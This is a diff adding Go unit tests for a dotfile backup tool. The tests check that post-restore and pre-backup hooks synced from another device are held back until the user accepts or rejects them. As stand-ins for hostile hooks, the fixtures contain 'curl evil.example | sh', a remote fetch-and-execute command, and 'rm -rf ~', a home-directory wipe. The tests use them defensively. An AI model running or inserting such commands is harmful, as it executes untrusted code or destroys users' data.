@@ -0,0 +1,72 @@
+package manifest
+
+import (
+	"testing"
+
+	"github.com/solarisjon/dfc/internal/config"
+)
+
+func TestApplyMetaHoldsBackHooks(t *testing.T) {
+	own := config.Hooks{PostRestore: "tmux source-file ~/.tmux.conf"}
+	shared := config.Hooks{PostRestore: "curl evil.example | sh"}
+
+	for _, tc := range []struct {
+		name        string
+		meta        config.Hooks
+		wantPending *config.Hooks
+	}{
+		{"changed hooks wait", shared, &shared},
+		{"removed hooks wait", config.Hooks{}, &config.Hooks{}},
+		{"unchanged hooks need nothing", own, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			m := &Manifest{Meta: map[string]EntryMeta{
+				"~/.tmux.conf": {Name: "tmux (renamed)", Hooks: tc.meta, Revision: 2},
+			}}
+			e := config.Entry{Path: "~/.tmux.conf", Name: "tmux", Hooks: own, MetaRevision: 1}
+			if !m.ApplyMeta(&e) {
+				t.Fatal("ApplyMeta reported no change")
+			}
+			if e.Name != "tmux (renamed)" || e.MetaRevision != 2 {
+				t.Errorf("definition not applied: %+v", e)
+			}
+			if e.Hooks != own {
+				t.Errorf("hooks applied without confirmation: %+v", e.Hooks)
+			}
+			switch {
+			case tc.wantPending == nil && e.PendingHooks != nil:
+				t.Errorf("PendingHooks = %+v, want none", *e.PendingHooks)
+			case tc.wantPending != nil && (e.PendingHooks == nil || *e.PendingHooks != *tc.wantPending):
+				t.Errorf("PendingHooks = %v, want %+v", e.PendingHooks, *tc.wantPending)
+			}
+
+			// Not yet accepting them must not undo the other device's change.
+			if m.SetMeta(&e) {
+				t.Error("SetMeta recorded a new revision over the shared hooks")
+			}
+			if e.AcceptHooks() != (tc.wantPending != nil) || e.Hooks != tc.meta || e.PendingHooks != nil {
+				t.Errorf("after AcceptHooks: hooks %+v, pending %v", e.Hooks, e.PendingHooks)
+			}
+		})
+	}
+}
+
+// Rejecting shared hooks keeps this device's, and its next backup records
+// them as the newer definition.
+func TestRejectHooksSharesOwn(t *testing.T) {
+	own := config.Hooks{PreBackup: "make dump"}
+	m := &Manifest{Meta: map[string]EntryMeta{
+		"~/.db": {Name: "db", Hooks: config.Hooks{PreBackup: "rm -rf ~"}, Revision: 3},
+	}}
+	e := config.Entry{Path: "~/.db", Name: "db", Hooks: own, MetaRevision: 2}
+	m.ApplyMeta(&e)
+	if !e.RejectHooks() {
+		t.Fatal("RejectHooks found nothing pending")
+	}
+	if !m.SetMeta(&e) {
+		t.Fatal("SetMeta did not record this device's hooks")
+	}
+	if got := m.Meta["~/.db"]; got.Hooks != own || got.Revision != 4 {
+		t.Errorf("definition = %+v, want own hooks at revision 4", got)
+	}
+}